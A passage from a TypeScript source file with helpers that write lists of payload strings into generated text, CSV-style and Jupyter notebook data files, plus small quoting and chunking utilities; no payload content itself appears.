  return Buffer.concat([whole(Buffer.from(seen(one))), whole(Buffer.from(one.text, 'latin1'))]);
}

function text(name: string, payloads: Payload[], each: (one: Payload) => string, between = '\n', before = ''): Kept {
  return { path: `data/${name}`, body: `${before}${payloads.map(each).join(between)}\n`, payloads };
}

function headers(name: string, payloads: Payload[], separator: string): Kept {
  const rows = [payloads.map((one) => quoted(one.text)), payloads.map(seen)];
  return { path: `data/${name}`, body: `${rows.map((row) => row.join(separator)).join('\n')}\n`, payloads };
}

function notebook(name: string, payloads: Payload[], cell: (one: Payload) => object, language = 'python'): Kept {
  const metadata = { kernelspec: { name: language, display_name: language, language }, language_info: { name: language, file_extension: language, mimetype: language } };
  return { path: `data/${name}`, body: JSON.stringify({ cells: payloads.map(cell), metadata, nbformat: 4, nbformat_minor: 5 }, null, 1), payloads };
}

function quoted(cell: string): string {
  return `"${cell.replaceAll('"', '""')}"`;
}

function chunks<T>(all: T[], size: number): T[][] {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, at) => all.slice(at * size, (at + 1) * size));
}
